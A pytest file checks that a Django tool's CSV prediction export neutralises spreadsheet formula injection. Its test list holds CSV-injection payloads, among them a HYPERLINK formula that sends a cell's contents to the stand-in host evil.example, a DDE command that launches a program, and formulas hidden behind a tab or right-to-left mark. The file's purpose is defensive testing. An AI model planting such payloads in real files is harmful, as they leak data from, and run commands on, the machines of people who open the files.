"""`sawt classifier predict --out FILE.csv` writes no cell a spreadsheet would run as a formula:
text starting with = + - @, a tab or CR (past any invisible direction marks) gets the same
leading apostrophe as the XLSX export gives it (sawt/core/safe_cells.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import translation

from sawt.classification.tests.test_classifier_command import ROWS

pytestmark = pytest.mark.django_db
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"انقر")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\u200f=1+1",  # a right-to-left mark in front hides the "=" from a naive check
    "تأخر إصدار الشهادة",  # plain text stays as it is
]


def _sawt(*args: str) -> None:
    with translation.override("en"):
        call_command("classifier", *args, stdout=io.StringIO(), stderr=io.StringIO())


def _write(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_predicted_csv_neutralises_formulas_in_every_column(tmp_path):
    # Labels are text from a file too: one that starts with "=" is neutralised as well.
    labelled = [[text, "=delay" if label == "delay" else label] for text, label in ROWS]
    _sawt(
        "train",
        "--name",
        "reasons",
        str(_write(tmp_path / "labelled.csv", ["text", "label"], labelled)),
        "--text-column",
        "text",
        "--label-column",
        "label",
    )
    source = _write(
        tmp_path / "new.csv",
        ["=header", "text"],
        [[value, "تأخر إصدار الشهادة أكثر من شهر"] for value in HOSTILE]
        + [["x", value] for value in HOSTILE],
    )
    out = tmp_path / "out.csv"
    _sawt("predict", "--name", "reasons", str(source), "--text-column", "text", "--out", str(out))
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["'=header", "text", "predicted", "confidence"]
    # Cells are read as imports read them (surrounding white space dropped), then neutralised.
    expected = ["'" + v.strip() for v in HOSTILE[:-1]] + [HOSTILE[-1]]
    assert [r[0] for r in rows[1 : len(HOSTILE) + 1]] == expected
    assert [r[1] for r in rows[len(HOSTILE) + 1 :]] == expected
    assert rows[1][2] == "'=delay"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for r in rows for cell in r)
